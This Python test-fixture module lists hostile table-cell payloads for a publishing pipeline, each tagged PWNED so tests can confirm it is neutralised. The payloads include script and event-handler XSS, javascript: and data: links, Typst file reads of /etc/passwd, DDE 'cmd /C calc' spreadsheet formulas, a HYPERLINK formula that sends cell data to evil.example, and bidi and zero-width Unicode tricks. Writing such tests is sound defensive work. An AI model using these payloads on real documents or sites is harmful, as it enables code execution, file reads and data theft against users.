"""Hostile cell contents, each meant to change what the publication says or does if it were read as markup.

Every attack carries the marker PWNED so a test can find where it ended up. A script that runs
sets `data-pwned` on the page; a Typst instruction that runs writes HIJACKED or ACHIEVED.
"""

from __future__ import annotations

MARK = "PWNED"
SCRIPT_EFFECT = "document.documentElement.setAttribute('data-pwned','1')"

#: (name, text) pairs; the text is what a hostile or careless editor puts in one cell.
ATTACKS: list[tuple[str, str]] = [
    ("script tag", f"<script>{SCRIPT_EFFECT}</script> PWNED script"),
    ("img onerror", f'<img src=x onerror="{SCRIPT_EFFECT}"> PWNED img'),
    ("svg onload", f'<svg onload="{SCRIPT_EFFECT}"></svg> PWNED svg'),
    ("raw html block", f"```{{=html}}\n<script>{SCRIPT_EFFECT}</script>\n```\nPWNED raw html"),
    ("raw inline html", f"`<script>{SCRIPT_EFFECT}</script>`{{=html}} PWNED inline raw"),
    ("raw typst block", '```{=typst}\n#show "Not achieved": "ACHIEVED"\n#page(fill: red)[HIJACKED]\n```\nPWNED typst'),
    ("raw typst inline", '`#read("book.typ")`{=typst} PWNED typst inline'),
    ("typst show rule", '#show "Not achieved": "ACHIEVED" PWNED show'),
    ("typst read", '#read("/etc/passwd") #page(fill: red)[HIJACKED] PWNED read'),
    ("javascript link", "[click me PWNED](javascript:document.documentElement.setAttribute('data-pwned','1'))"),
    ("javascript autolink", "<javascript:alert(1)> PWNED autolink"),
    ("data link", "[PWNED data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("reference link", "[PWNED ref][x]\n\n[x]: javascript:alert(1)"),
    ("image", "![PWNED image](https://example.org/track.png)"),
    ("fake badge", "::: {.status .status-achieved}\nAchieved PWNED badge\n:::"),
    ("inline badge", "[Achieved PWNED]{.status .status-achieved}"),
    ("setext heading", "Intro\nPWNED setext heading\n--------------------\nmore"),
    ("atx heading", "# PWNED atx heading {#fake}"),
    ("heading after break", "ok\n\n## PWNED second heading"),
    ("rule", "before\n\n***\n\nPWNED after rule"),
    ("code block", "before\n\n    PWNED indented code\n\nafter"),
    ("fenced code", "```\nPWNED fenced code\n```"),
    ("pipe table", "a\n\n| PWNED | table |\n|---|---|\n| 1 | 2 |"),
    ("table row injection", "label | Achieved | Yes\n| 99 | PWNED fake row | Achieved | Achieved | Yes"),
    ("definition list", "Term PWNED\n:   Definition"),
    ("yaml block", "before\n\n---\ntitle: PWNED yaml\n---\n\nafter"),
    ("line block", "| PWNED line block\n| second"),
    ("blockquote", "> PWNED quote"),
    ("ordered list", "1. PWNED list\n2. second"),
    ("bullet list", "- PWNED bullet\n- second"),
    ("emphasis", "**PWNED bold** _it_ ~~strike~~ ^sup^ ~sub~"),
    ("math", "$x^2$ PWNED math $$y$$"),
    ("footnote", "PWNED footnote^[a note] [^1]\n\n[^1]: note"),
    ("citation", "@pwned and [@pwned] and @tbl-status-counts PWNED cite"),
    ("span attributes", '[PWNED span]{style="color:red" onclick="alert(1)"}'),
    ("html comment", "<!-- PWNED hidden --> visible PWNED comment"),
    ("entities", "&lt;script&gt;alert(1)&lt;/script&gt; &#x3C;b&#x3E; PWNED entity"),
    ("backslash tail", "PWNED backslash \\"),
    ("gptables link", "[PWNED display](file:///etc/passwd)"),
    ("gptables note", "$$rating_rule$$ PWNED note"),
    ("formula", '=HYPERLINK("http://evil.example/?"&A1,"PWNED formula")'),
    ("dde", "=cmd|' /C calc'!A0 PWNED dde"),
    ("plus formula", "+SUM(1,2) PWNED plus"),
    ("minus formula", "-2+3+cmd|' /C calc'!A0 PWNED minus"),
    ("at formula", "@SUM(1,2) PWNED at"),
    ("tab formula", "\t=1+1 PWNED tab"),
    ("cr formula", "\r=1+1 PWNED cr"),
    ("array formula", "{=SUM(A1:A2)} PWNED array"),
    ("url text", "http://evil.example/PWNED file://server/share/PWNED external:c:\\PWNED"),
    ("long word", "PWNED" + "x" * 400 + " long word"),
    ("accented link", "[\u00e9tude PWNED](https://example.org/\u00e9tude)"),
    ("accented link, elided address", "[\u00e9tude](https://\u2026) PWNED elided"),
    ("cross reference", "see @fig-status-counts PWNED xref"),
    ("shortcode", "{{< pagebreak >}} PWNED shortcode"),
    ("div fence", ":::: {.callout-warning}\nPWNED callout\n::::"),
]

#: Text refused where a table or settings file is read (rssreview.hygiene), so it never reaches any output:
#: (name, text, what the one-line refusal names).
REFUSED_AT_INPUT: list[tuple[str, str, str]] = [
    ("bidi override", "PWNED \u202eevil\u202c bidi", "U+202E RIGHT-TO-LEFT OVERRIDE"),
    ("bidi isolate", "PWNED \u2067evil\u2069 isolate", "U+2067 RIGHT-TO-LEFT ISOLATE"),
    ("arabic letter mark", "PWNED\u061c mark", "U+061C ARABIC LETTER MARK"),
    ("zero width", "PW\u200bNED zero width", "U+200B ZERO WIDTH SPACE"),
    ("unicode line separator", "PWNED\u2028# separator heading\u2029- para", "U+2028 LINE SEPARATOR"),
    ("escape sequence", "PWNED \x1b[31mred", "U+001B"),
    ("c1 control", "PWNED \x9b31m", "U+009B"),
    ("combining marks", "PWNED Z" + "\u0336" * 950, "more than 4 combining marks"),
]
